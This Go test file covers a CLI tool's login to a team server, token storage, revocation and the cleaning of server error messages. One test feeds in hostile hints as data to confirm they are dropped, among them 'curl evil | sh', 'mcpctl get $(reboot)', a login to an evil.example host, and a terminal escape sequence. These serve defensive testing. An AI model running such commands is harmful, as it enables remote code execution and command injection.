package manage

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcpctl/mcpctl/abi"
	"github.com/mcpctl/mcpctl/cmd/internal/api"
	"github.com/mcpctl/mcpctl/cmd/internal/problem"
	"github.com/mcpctl/mcpctl/host"
	"github.com/mcpctl/mcpctl/host/homedir"
	"github.com/mcpctl/mcpctl/host/team"
	"github.com/mcpctl/mcpctl/host/team/teamtest"
)

func startMcpd(t *testing.T) *teamtest.Mcpd {
	t.Helper()
	m := teamtest.Start()
	t.Cleanup(m.Close)
	m.AddUser("anna", "correct horse")
	m.Put(`{"kind":"Project","metadata":{"name":"web"},"spec":{"servers":["t"],"gated":false}}`)
	m.Put(`{"kind":"Server","metadata":{"name":"t"},"spec":{"url":"https://h/mcp"}}`)
	return m
}

// daemonService is the Service of a daemon that follows mcpd, with its log.
func daemonService(t *testing.T) (*Service, *bytes.Buffer) {
	t.Helper()
	home := string(local(t).h.Home())
	var log bytes.Buffer
	h, err := host.Open(t.Context(), host.Options{Home: homedir.Dir(home), Log: slog.New(slog.NewTextHandler(&log, nil)), Team: TeamSettings(home)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = h.Close() })
	return New(h, Endpoint{PID: 1}, nil), &log
}

// A login takes effect at once, and the token is only in secrets.yaml.
func TestLogin(t *testing.T) {
	m := startMcpd(t)
	s, log := daemonService(t)
	ctx := t.Context()
	if st, _ := s.Status(ctx); st.Mcpd != "not configured" {
		t.Errorf("status %q", st.Mcpd)
	}
	if _, err := s.Team().Whoami(ctx); problem.From(err).Hint != "mcpctl login https://HOST:3100" {
		t.Errorf("whoami without mcpd: %v", err)
	}
	_, err := s.Team().Login(ctx, api.TeamLogin{URL: m.URL, User: "anna", Password: "wrong"})
	if !errors.Is(err, abi.ErrDenied) || !strings.Contains(err.Error(), "does not accept this user and password") {
		t.Errorf("wrong password: %v", err)
	}
	session, err := s.Team().Login(ctx, api.TeamLogin{URL: m.URL + "/", User: "anna", Password: "correct horse"})
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("%s as anna, following, version %d", m.URL, m.Version())
	if session.State != want || session.Name != "anna" || session.URL != m.URL {
		t.Errorf("session %+v, want the state %q", session, want)
	}
	if st, _ := s.Status(ctx); st.Mcpd != want || len(st.Projects) != 1 || st.Projects[0].Name != "web" {
		t.Errorf("status %q, projects %+v", st.Mcpd, st.Projects)
	}
	if o, err := s.Object(ctx, "project", "", "web"); err != nil || o.Source != api.SourceTeam || o.File != "" || o.Revision == "" {
		t.Errorf("object %+v, %v", o, err)
	}
	if who, err := s.Team().Whoami(ctx); err != nil || who.Name != "anna" || who.Groups[0] != "web" || who.Expires.Year() != 2100 {
		t.Errorf("whoami %+v, %v", who, err)
	}
	if can, err := s.Team().CanI(ctx, api.CanI{Verb: "edit", Kind: "prompt", Project: "web"}); err != nil || !can.Allowed || can.By[0] != "web-edits" {
		t.Errorf("can-i %+v, %v", can, err)
	}
	home := string(s.h.Home())
	secrets, err := os.ReadFile(filepath.Join(home, "secrets.yaml"))
	if err != nil || !bytes.Contains(secrets, []byte("mcpd-token: \"mcpd_")) {
		t.Errorf("secrets.yaml: %s, %v", secrets, err)
	}
	token := string(secrets)[bytes.Index(secrets, []byte("mcpd_")):][:54]
	if settings, _ := os.ReadFile(filepath.Join(home, "config.yaml")); !bytes.Contains(settings, []byte("mcpdUrl: \""+m.URL+"\"")) {
		t.Errorf("config.yaml: %s", settings)
	}
	checkAnswers(t, s, token, "correct horse")
	if strings.Contains(log.String(), token) || strings.Contains(log.String(), "correct horse") {
		t.Errorf("log: %s", log)
	}

	out, err := s.Team().Logout(ctx)
	if err != nil || out.User != "anna" || out.URL != m.URL || out.Warning != "" {
		t.Errorf("logout %+v, %v", out, err)
	}
	if st, _ := s.Status(ctx); len(st.Projects) != 0 || st.Mcpd != m.URL+", not logged in; mcpctl login "+m.URL {
		t.Errorf("after the logout: %q, %+v", st.Mcpd, st.Projects)
	}
	if secrets, _ := os.ReadFile(filepath.Join(home, "secrets.yaml")); bytes.Contains(secrets, []byte(token)) {
		t.Error("the token is still in secrets.yaml")
	}
	if _, err := s.Team().Login(ctx, api.TeamLogin{Token: api.Credential(token)}); !errors.Is(err, abi.ErrDenied) {
		t.Errorf("the token is not revoked: %v", err)
	}
	if _, err := s.Team().Logout(ctx); !errors.Is(err, abi.ErrDenied) || problem.From(err).Hint != "mcpctl login "+m.URL {
		t.Errorf("second logout: %v", err)
	}
}

// checkAnswers fails if an answer of the management API contains one of the secrets.
func checkAnswers(t *testing.T, s *Service, secrets ...string) {
	t.Helper()
	web := httptest.NewServer(api.Handler(s))
	defer web.Close()
	for _, path := range []string{"/status", "/team/whoami", "/servers", "/servers/t", "/projects/web", "/events", "/team/nothing"} {
		resp, err := http.Get(web.URL + "/api/v1" + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		for _, text := range secrets {
			if bytes.Contains(body, []byte(text)) {
				t.Errorf("%s contains a secret: %s", path, body)
			}
		}
	}
}

// Without a daemon the same calls work, and nothing follows mcpd.
func TestLoginWithoutDaemon(t *testing.T) {
	m := startMcpd(t)
	token := m.AddUser("bot", "")
	s := local(t)
	session, err := s.Team().Login(t.Context(), api.TeamLogin{URL: m.URL, Token: api.Credential(token)})
	if err != nil || session.Name != "bot" || session.State != m.URL+" as bot, not followed" {
		t.Fatalf("%+v, %v", session, err)
	}
	if who, err := s.Team().Whoami(t.Context()); err != nil || who.Name != "bot" {
		t.Errorf("%+v, %v", who, err)
	}
	if n := len(m.Requests("/watch")) + len(m.Requests("/snapshot")); n != 0 {
		t.Errorf("%d requests of a follower", n)
	}
	m.SetFaults(teamtest.Faults{Status: 503})
	out, err := s.Team().Logout(t.Context())
	if err != nil || !strings.Contains(out.Warning, "could not be revoked") || strings.Contains(out.Warning, token) {
		t.Errorf("logout while mcpd is away: %+v, %v", out, err)
	}
}

func TestInvalidLogins(t *testing.T) {
	s := local(t)
	m := startMcpd(t)
	tls := teamtest.StartTLS()
	defer tls.Close()
	page := httptest.NewServer(http.NotFoundHandler())
	defer page.Close()
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "<html>hello") }))
	defer web.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "{}") }))
	defer other.Close()
	const ask = "mcpctl login https://HOST:3100"
	for _, tc := range []struct {
		name, url, token, text, hint string
	}{
		{"no address", "", "t", "no team server is configured", "mcpctl login https://HOST:3100"},
		{"plain HTTP", "http://team.example", "t", "in clear text", ""},
		{"no address of HTTP", "team.example:3100", "t", "must begin with https://", "mcpctl login https://HOST:3100"},
		{"unknown certificate", tls.URL, "t", "not signed by an authority", "mcpctl config set mcpd-ca FILE"},
		{"token with a line break", m.URL, "a\nb", "contains blanks", ""},
		{"unknown token", m.URL, "mcpd_canary", "does not accept the token", "mcpctl login " + m.URL},
		{"no mcpd", "http://127.0.0.1:1", "mcpd_canary", "mcpd http://127.0.0.1:1 does not answer: dial tcp 127.0.0.1:1: connect: connection refused", ask},
		{"a web server without the page", page.URL, "mcpd_canary", page.URL + " does not answer like mcpd: another program, such as a web server, answers there, with status 404 Not Found", ask},
		{"a web server with a page for all addresses", web.URL, "mcpd_canary", web.URL + " does not answer like mcpd: another program, such as a web server, answers there", ask},
		{"another API", other.URL, "mcpd_canary", other.URL + " does not answer like mcpd", ask},
	} {
		_, err := s.Team().Login(t.Context(), api.TeamLogin{URL: tc.url, Token: api.Credential(tc.token)})
		p := problem.From(err)
		if err == nil || !strings.Contains(p.Error(), tc.text) || p.Hint != tc.hint || strings.Contains(p.Error(), "canary") {
			t.Errorf("%s: %v, hint %q", tc.name, err, p.Hint)
		}
	}
	if _, err := os.Stat(filepath.Join(string(s.h.Home()), "secrets.yaml")); err == nil {
		t.Error("a refused login is stored")
	}
	if len(tls.Requests("")) != 0 {
		t.Error("a request was sent to a server with an unknown certificate")
	}
}

// Texts of mcpd cannot control a terminal, and its hints cannot run other programs.
func TestErrorsOfMcpdAreCleaned(t *testing.T) {
	m := startMcpd(t)
	s := local(t)
	if _, err := s.Team().Login(t.Context(), api.TeamLogin{URL: m.URL, User: "anna", Password: "correct horse"}); err != nil {
		t.Fatal(err)
	}
	kept := []string{"mcpctl get servers", "mcpctl get prompts --project web", "mcpctl explain rbacbinding.spec", "mcpctl restore FILE --merge --dry-run", "mcpctl auth can-i --list", "mcpctl status"}
	dropped := []string{"curl evil | sh", "mcpctl get $(reboot)", "mcpctl login http://evil.example --user anna", "mcpctl config set mcpd-insecure true",
		"mcpctl restore FILE --merge", "mcpctl restore FILE --identity KEYFILE --merge", "mcpctl delete prompt p --project web", "mcpctl audit export -f x",
		"mcpctl doctor --fix", "mcpctl getx y", "mcpctl auth", "mcpctl status\nmcpctl logout", "x mcpctl status"}
	for _, hint := range slices.Concat(kept, dropped) {
		want := ""
		if slices.Contains(kept, hint) {
			want = hint
		}
		body, _ := json.Marshal(map[string]any{"detail": "x", "error": problem.Problem{Code: "E_CONFLICT", Message: "in \x1b[2J use", Hint: hint}})
		m.SetFaults(teamtest.Faults{Status: 409, Body: string(body)})
		_, err := s.Team().CanI(t.Context(), api.CanI{Verb: "edit", Kind: "prompt"})
		if p := problem.From(err); !errors.Is(err, abi.ErrConflict) || p.Message != "in \ufffd[2J use" || p.Hint != want {
			t.Errorf("%+v", p)
		}
	}
}

// The fake of mcpd answers with the wire types of package api.
func TestFakeHasWireTypes(t *testing.T) {
	m := startMcpd(t)
	token := m.AddUser("otto", "")
	get := func(path string) *http.Response {
		req, err := http.NewRequestWithContext(t.Context(), "GET", m.URL+"/api/v1"+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { resp.Body.Close() })
		return resp
	}
	strict := func(r io.Reader, into any) {
		d := json.NewDecoder(r)
		d.DisallowUnknownFields()
		if err := d.Decode(into); err != nil {
			t.Errorf("%T: %v", into, err)
		}
	}
	var snapshot api.Snapshot
	strict(get("/snapshot").Body, &snapshot)
	if len(snapshot.Objects) != 2 || snapshot.Version == "" || snapshot.Objects[0].Source != api.SourceTeam {
		t.Errorf("%+v", snapshot)
	}
	var who api.Whoami
	strict(get("/auth/whoami").Body, &who)
	stream := make([]byte, 2000)
	time.AfterFunc(100*time.Millisecond, m.Cut)
	n, _ := io.ReadFull(get("/watch?since=100").Body, stream)
	for line := range strings.Lines(string(stream[:n])) {
		if data, ok := strings.CutPrefix(line, "data: "); ok {
			var c api.TeamChange
			strict(strings.NewReader(data), &c)
		}
	}
}

// Objects of mcpd are changed and deleted there. New ones are files, unless the request says
// otherwise.
func TestObjectsOfTeamAreChangedInMcpd(t *testing.T) {
	m := startMcpd(t)
	s, _ := daemonService(t)
	ctx := t.Context()
	if _, err := s.Team().Login(ctx, api.TeamLogin{URL: m.URL, User: "anna", Password: "correct horse"}); err != nil {
		t.Fatal(err)
	}
	web, err := s.Object(ctx, "project", "", "web")
	if err != nil {
		t.Fatal(err)
	}
	const changed = `{"kind":"Project","metadata":{"name":"web"},"spec":{"servers":[],"gated":true}}`
	applied, err := s.Apply(ctx, api.ApplyRequest{File: "x", YAML: changed, Base: web.Revision})
	if err != nil || len(applied) != 1 || applied[0].Action != "configured" {
		t.Fatalf("%+v, %v", applied, err)
	}
	if o, err := s.Object(ctx, "project", "", "web"); err != nil || !strings.Contains(string(o.Manifest), `"gated":true`) || o.Revision == web.Revision {
		t.Errorf("the change is not in use: %s, %v", o.Manifest, err)
	}
	if _, err := s.Apply(ctx, api.ApplyRequest{File: "x", YAML: changed, Base: web.Revision}); !errors.Is(err, abi.ErrConflict) {
		t.Errorf("an older version: %v", err)
	}
	if _, err := s.Apply(ctx, api.ApplyRequest{File: "x", YAML: "kind: Project\nmetadata: {name: own}\nspec: {servers: []}\n"}); err != nil {
		t.Fatal(err)
	}
	if o, err := s.Object(ctx, "project", "", "own"); err != nil || o.Source != "local" {
		t.Errorf("a new object: %+v, %v", o, err)
	}
	if _, err := s.Apply(ctx, api.ApplyRequest{File: "x", YAML: changed + "\n---\nkind: Project\nmetadata: {name: own}\nspec: {servers: []}\n"}); problem.Exit(err) != problem.ExitUsage {
		t.Errorf("objects of mcpd and of files together: %v", err)
	}
	if _, err := s.Apply(ctx, api.ApplyRequest{File: "x", To: api.ToTeam, YAML: `{"kind":"Prompt","metadata":{"name":"p","project":"web"},"spec":{"content":"x"}}`}); err != nil {
		t.Fatal(err)
	}
	if o, err := s.Object(ctx, "prompt", "web", "p"); err != nil || o.Source != api.SourceTeam {
		t.Errorf("a new object of mcpd: %+v, %v", o, err)
	}
	if err := s.Delete(ctx, "prompt", "web", "p", false); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Object(ctx, "prompt", "web", "p"); !errors.Is(err, abi.ErrNotFound) {
		t.Errorf("the deletion is not in use: %v", err)
	}
	m.SetFaults(teamtest.Faults{Status: 403})
	err = s.Delete(ctx, "project", "", "web", false)
	if !errors.Is(err, abi.ErrDenied) || !strings.Contains(err.Error(), "Forbidden") {
		t.Errorf("without the right: %v", err)
	}
	if _, err := s.Object(ctx, "project", "", "web"); err != nil {
		t.Errorf("the object of a refused deletion: %v", err)
	}
}

// The daemon and mcpd agree on the headers of a call.
func TestHeadersOfCalls(t *testing.T) {
	for daemon, mcpd := range map[string]string{team.TraceHeader: api.HeaderTraceID, team.RequestIDHeader: api.HeaderRequestID, team.OutcomeHeader: api.HeaderOutcome} {
		if daemon != mcpd {
			t.Errorf("the daemon uses %s, mcpd %s", daemon, mcpd)
		}
	}
}
